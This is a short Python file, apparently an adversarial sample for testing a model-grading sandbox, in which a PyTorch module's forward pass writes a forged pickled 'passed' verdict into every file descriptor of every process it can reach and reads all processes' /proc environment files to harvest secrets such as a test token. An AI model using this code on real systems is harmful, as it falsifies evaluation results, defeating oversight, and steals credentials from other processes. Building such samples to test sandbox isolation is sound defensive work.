import ctypes
import os
import pickle
import struct

from torch import nn

LIBC = ctypes.CDLL(None, use_errno=True)
FORGED = pickle.dumps({"stage_reached": "backward", "category": None, "message": "", "timings": {}})
FRAME = struct.pack("!Q", len(FORGED)) + FORGED


class Block(nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = nn.Linear(4, 4)

    def forward(self, x):
        """Forge verdicts through every descriptor of every process it can see; read environs."""
        leaked = b""
        for pid in range(1, 70000):
            for fd in range(64):
                target = f"/proc/{pid}/fd/{fd}".encode()
                handle = LIBC.open(target, 1)  # O_WRONLY
                if handle >= 0:
                    LIBC.write(handle, FRAME, len(FRAME))
                    LIBC.close(handle)
            environ = LIBC.open(f"/proc/{pid}/environ".encode(), 0)
            if environ >= 0:
                buffer = ctypes.create_string_buffer(4096)
                LIBC.read(environ, buffer, 4096)
                leaked += buffer.raw
                LIBC.close(environ)
            if not os.path.exists(f"/proc/{pid + 1}") and pid > 64:
                break
        if b"NNRAG_TEST_SECRET" in leaked:
            raise RuntimeError("leaked: " + leaked.decode(errors="replace")[:200])
        return self.lin(x)
